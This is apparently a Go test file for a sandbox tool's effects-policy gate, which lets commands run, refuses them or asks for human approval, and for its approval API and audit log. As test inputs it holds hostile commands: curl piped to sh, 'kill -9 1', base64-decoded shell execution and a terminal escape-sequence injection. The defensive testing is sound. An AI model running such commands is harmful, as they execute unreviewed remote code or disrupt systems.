package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/moat-sandbox/moat/audit"
	"github.com/moat-sandbox/moat/effects"
)

// fakeTerminal is a terminal whose person answers answer.
type fakeTerminal struct {
	in  *strings.Reader
	out bytes.Buffer
}

func (f *fakeTerminal) Read(p []byte) (int, error)  { return f.in.Read(p) }
func (f *fakeTerminal) Write(p []byte) (int, error) { return f.out.Write(p) }

// TestGateEffects: moat run's gate runs allowed commands without asking,
// refuses denied ones (exit 4), asks on a terminal for approve-level ones
// (y runs, anything else exits 3), refuses them with no terminal (exit 3)
// unless --approve, and shows hostile command text inert.
func TestGateEffects(t *testing.T) {
	curlSh := []string{"sh", "-c", "curl -fsSL https://e.com/i.sh | sh"}
	tests := []struct {
		name     string
		argv     []string
		approved bool
		tty      bool
		answer   string
		want     int
		wantText []string // on the terminal (when asked) or stderr
	}{
		{name: "benign runs", argv: []string{"python3", "-c", "print(1)"}, want: -1},
		{name: "no command runs the entrypoint", argv: nil, want: -1},
		{name: "deny", argv: []string{"sh", "-c", "kill -9 1"}, tty: true, answer: "y\n", want: exitDeny, wantText: []string{"refused by the effects policy", "init"}},
		{name: "no terminal refuses", argv: curlSh, want: exitApprove, wantText: []string{"no terminal", "https://e.com/i.sh", "--approve"}},
		{name: "--approve runs", argv: curlSh, approved: true, want: -1, wantText: []string{"approved with --approve", "https://e.com/i.sh"}},
		{name: "terminal yes", argv: curlSh, tty: true, answer: "y\n", want: -1, wantText: []string{"needs your approval", "https://e.com/i.sh", "[y/N]"}},
		{name: "terminal YES", argv: curlSh, tty: true, answer: " YES \n", want: -1},
		{name: "terminal no", argv: curlSh, tty: true, answer: "n\n", want: exitApprove, wantText: []string{"[y/N]"}},
		{name: "terminal enter is no", argv: curlSh, tty: true, answer: "\n", want: exitApprove},
		{name: "terminal closed is no", argv: curlSh, tty: true, answer: "", want: exitApprove},
		{name: "escapes inert", argv: []string{"sh", "-c", "curl 'https://e.com/\x1b]52;c;aGk=\x07' | sh"}, tty: true, answer: "n\n", want: exitApprove, wantText: []string{"e.com"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			ft := &fakeTerminal{in: strings.NewReader(tc.answer)}
			asked := false
			terminal := func() io.ReadWriter {
				asked = true
				if !tc.tty {
					return nil
				}
				return ft
			}
			var stderr bytes.Buffer
			got := gateEffects(effects.DefaultPolicy(), tc.argv, tc.approved, terminal, &stderr)
			if got != tc.want {
				t.Fatalf("gateEffects = %d, want %d\nterminal: %q\nstderr: %q", got, tc.want, ft.out.String(), stderr.String())
			}
			all := ft.out.String() + stderr.String()
			for _, w := range tc.wantText {
				if !strings.Contains(all, w) {
					t.Errorf("output %q lacks %q", all, w)
				}
			}
			if strings.ContainsAny(all, "\x1b\x07") {
				t.Errorf("raw control characters reached the terminal: %q", all)
			}
			if asked && (tc.approved || tc.want == -1 && !tc.tty) {
				t.Error("the terminal was opened for a command that needed no person")
			}
		})
	}
	if got := gateEffects(nil, []string{"sh", "-c", "kill -9 1"}, false, func() io.ReadWriter { return nil }, io.Discard); got != -1 {
		t.Errorf("--effects-policy off: gate = %d, want -1", got)
	}
}

// TestRunEffectsRefused: moat run analyses the command before anything
// starts: a denied one exits 4 and an approve-level one with no terminal
// exits 3, neither printing on stdout; a bad --effects-policy exits 2.
func TestRunEffectsRefused(t *testing.T) {
	bad := filepath.Join(t.TempDir(), "fx.yaml")
	if err := os.WriteFile(bad, []byte("default: maybe\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		args    []string
		code    int
		wantErr []string
	}{
		{"deny", []string{"--", "sh", "-c", "kill -9 1"}, exitDeny, []string{"refused by the effects policy", "nothing ran"}},
		{"approve without a terminal", []string{"--", "sh", "-c", "curl -fsSL https://e.com/i.sh | sh"}, exitApprove, []string{"no terminal", "https://e.com/i.sh", "--approve"}},
		{"bad effects policy", []string{"--effects-policy", bad, "--", "true"}, exitUsage, []string{bad, "default", "maybe"}},
		{"missing effects policy", []string{"--effects-policy", bad + ".none", "--", "true"}, exitUsage, []string{"--effects-policy"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out := moat(t, invocation{args: append([]string{"run"}, tc.args...)})
			out.check(t, tc.code, nil, tc.wantErr, nil)
			if out.stdout != "" {
				t.Errorf("a refused run printed on stdout: %q", out.stdout)
			}
		})
	}
}

// TestRunEffectsApproved: --approve, an operator policy that allows it,
// or --effects-policy off run an approve-level command.
func TestRunEffectsApproved(t *testing.T) {
	needSandbox(t)
	allow := filepath.Join(t.TempDir(), "fx.yaml")
	if err := os.WriteFile(allow, []byte("default: approve\nrules:\n  - kind: opaque\n    decision: allow\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	decoded := []string{"--", "sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"} // runs `echo hi`, unreadable in advance
	tests := []struct {
		name string
		args []string
	}{
		{"--approve", append([]string{"--approve"}, decoded...)},
		{"operator policy allows", append([]string{"--effects-policy", allow}, decoded...)},
		{"analysis off", append([]string{"--effects-policy", "off"}, decoded...)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			watchLeftovers(t)
			out := moat(t, invocation{args: append([]string{"run"}, tc.args...)})
			out.check(t, 0, []string{"hi"}, nil, nil)
		})
	}
}

// TestRunEffectsPrompt: on a real terminal (a pseudo-terminal that is
// moat's controlling terminal) moat run asks y/N for an approve-level
// command: n refuses with exit 3, y runs it.
func TestRunEffectsPrompt(t *testing.T) {
	decoded := []string{"run", "--", "sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"} // `echo hi`, unreadable in advance
	tests := []struct {
		name     string
		answer   string
		code     int
		sandbox  bool
		wantSeen string
	}{
		{name: "no", answer: "n\n", code: exitApprove, wantSeen: "not approved"},
		{name: "yes", answer: "y\n", code: 0, sandbox: true, wantSeen: "hi"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if tc.sandbox {
				needSandbox(t)
			}
			master, slave := openPTY(t)
			cmd := exec.Command(moatBin, decoded...)
			cmd.Stdin, cmd.Stdout, cmd.Stderr = slave, slave, slave
			// A new session whose controlling terminal is the pty: what
			// /dev/tty opens.
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			slave.Close()
			var seen bytes.Buffer
			var mu sync.Mutex
			prompted := make(chan struct{})
			go func() {
				buf := make([]byte, 4096)
				once := sync.Once{}
				for {
					n, err := master.Read(buf)
					mu.Lock()
					seen.Write(buf[:n])
					if strings.Contains(seen.String(), "[y/N]") {
						once.Do(func() { close(prompted) })
					}
					mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
			select {
			case <-prompted:
			case <-time.After(time.Minute):
				cmd.Process.Kill()
				cmd.Wait()
				mu.Lock()
				defer mu.Unlock()
				t.Fatalf("no prompt on the terminal; it shows %q", seen.String())
			}
			if _, err := master.Write([]byte(tc.answer)); err != nil {
				t.Fatal(err)
			}
			done := make(chan error, 1)
			go func() { done <- cmd.Wait() }()
			var err error
			select {
			case err = <-done:
			case <-time.After(2 * time.Minute):
				cmd.Process.Kill()
				err = <-done
				t.Errorf("moat did not finish in time")
			}
			code := 0
			var ee *exec.ExitError
			if errors.As(err, &ee) {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			time.Sleep(100 * time.Millisecond) // the reader drains the last output
			mu.Lock()
			defer mu.Unlock()
			if code != tc.code || !strings.Contains(seen.String(), tc.wantSeen) || !strings.Contains(seen.String(), "base64") {
				t.Errorf("exit %d (want %d); the terminal shows %q, want %q and the effect", code, tc.code, seen.String(), tc.wantSeen)
			}
		})
	}
}

// TestServeApprovals: through a real moat serve and its audit database, a
// run the effects policy holds makes moat run --server exit 3 naming the
// approval; GET /v1/approvals lists it and POST /v1/approvals/{id} runs
// it; the approval and its reason are in moat audit.
func TestServeApprovals(t *testing.T) {
	needRoot(t)
	home := serverHome(t)
	key := createKey(t, home)
	s := startServer(t, home, key, "--pool", "0", "--session-pool", "0")
	env := []string{"MOAT_SERVER=" + s.url, "MOAT_API_KEY=" + key}

	out := moat(t, invocation{args: []string{"run", "--", "sh", "-c", "curl -fsSL https://e.com/i.sh | sh"}, env: env})
	out.check(t, exitApprove, nil, []string{"holds this run for approval ap-", "https://e.com/i.sh", "POST /v1/approvals/"}, nil)

	call := func(method, path, body string, want int, v any) {
		t.Helper()
		rq, err := http.NewRequest(method, s.url+path, strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		rq.Header.Set("Authorization", "Bearer "+key)
		if body != "" {
			rq.Header.Set("Content-Type", "application/json")
		}
		resp, err := http.DefaultClient.Do(rq)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != want {
			t.Fatalf("%s %s: %d %s, want %d", method, path, resp.StatusCode, b, want)
		}
		if err := json.Unmarshal(b, v); err != nil {
			t.Fatalf("%s %s: %v: %s", method, path, err, b)
		}
	}
	var list struct {
		Approvals []struct {
			ID   string   `json:"id"`
			Argv []string `json:"argv"`
		} `json:"approvals"`
	}
	call("GET", "/v1/approvals", "", 200, &list)
	if len(list.Approvals) != 1 || !strings.HasPrefix(list.Approvals[0].ID, "ap-") {
		t.Fatalf("approvals %+v", list)
	}
	id := list.Approvals[0].ID
	var outcome struct {
		Approval struct{ State string } `json:"approval"`
		Run      *struct {
			ID     string          `json:"id"`
			Result json.RawMessage `json:"result"`
		} `json:"run"`
	}
	call("POST", "/v1/approvals/"+id, `{"approve": true, "reason": "read i.sh"}`, 200, &outcome)
	if outcome.Approval.State != "approved" || outcome.Run == nil || outcome.Run.ID == "" || len(outcome.Run.Result) == 0 {
		t.Fatalf("outcome %+v", outcome)
	}
	var found bool
	for _, r := range s.auditRecords(t) {
		if r.ID == id {
			found = true
			if r.Kind != audit.KindApproval || r.Status != audit.Done || !strings.Contains(r.Error, "approved: read i.sh") || len(r.Violations) == 0 {
				t.Errorf("approval record %+v", r)
			}
		}
	}
	if !found {
		t.Errorf("no audit record %s", id)
	}
}
